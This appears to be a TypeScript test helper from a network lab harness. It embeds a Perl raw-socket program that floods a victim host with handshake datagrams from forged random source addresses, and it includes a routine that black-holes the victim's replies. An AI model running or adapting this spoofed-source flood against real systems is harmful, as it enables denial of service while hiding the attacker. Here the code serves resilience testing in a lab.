/**
 * A flood of handshake datagrams from forged sources, on the bridge's port to the victim: a packet in so many
 * microseconds, each from another random address of 198.18.0.0/15. What they hold is the
 * caller's.
 */
import { spawn } from "node:child_process";
import { collect, type Host } from "./host.ts";
import type { Topology } from "../../src/lab/topology.ts";

const PROGRAM = String.raw`use strict; use Time::HiRes qw(time); my ($port, $rate, $seconds) = @ARGV;
socket(my $s, 17, 3, 0) or die "socket: $!"; my $request = pack("a16 x24", $port);
ioctl($s, 0x8933, $request) or die "$port: $!";
my $to = pack("S S i S C C a8", 17, 0x0008, unpack("x16 i", $request), 0, 0, 6, "");
my @frames = map { pack("H*", $_) } split /,/, <STDIN>; my ($sent, $refused, $i) = (0, 0, 0); my $began = time;
for (;;) {
  my $due = (time - $began) * $rate; last if $due > $rate * $seconds;
  for (; $sent + $refused < $due; ) {
    my $frame = $frames[$i++ % @frames];
    substr($frame, 26, 4) = pack("C4", 198, 18 + int rand 2, int rand 256, int rand 256);
    substr($frame, 34, 2) = pack("n", 1024 + int rand 60000); substr($frame, 40, 2) = "\0\0"; substr($frame, 24, 2) = "\0\0";
    my $sum = 0; $sum += $_ for unpack("n10", substr($frame, 14, 20)); $sum = ($sum & 0xffff) + ($sum >> 16) for 1, 2;
    substr($frame, 24, 2) = pack("n", ~$sum & 0xffff);
    defined send($s, $frame, 0, $to) ? $sent++ : $refused++;
  }
  select(undef, undef, undef, 0.002);
}
print "$sent $refused\n";`;

/** Floods `victim` for `seconds`; the frames are sent in turn. Returns how many left. */
export async function flood(
  victim: Host,
  between: Topology["between"],
  frames: readonly Uint8Array[],
  rate: number,
  seconds: number,
): Promise<number> {
  const hex = frames.map((frame) =>
    frame.reduce((text, byte) => text + byte.toString(16).padStart(2, "0"), "")
  );
  const args = ["-e", PROGRAM, `to-${victim.name}`, `${rate}`, `${seconds}`];
  const child = between(() => spawn("/usr/bin/perl", args, { stdio: "pipe", cwd: "/" }));
  const { code, stdout, stderr } = await collect(child, {
    timeoutMs: seconds * 1000 + 60_000,
    input: hex.join(","),
  });
  if (code !== 0) throw new Error(`The flood ended: ${stderr}`);
  return Number(stdout.split(" ")[0]);
}

/** Has answers to strangers leave the victim, to nowhere: else they would cost it nothing. */
export async function answerNobody(victim: Host): Promise<void> {
  await victim.sh(`
    ip route add 198.18.0.0/15 via 10.99.0.254
    ip neigh add 10.99.0.254 lladdr 02:00:00:00:00:fe dev eth0 nud permanent
  `);
}
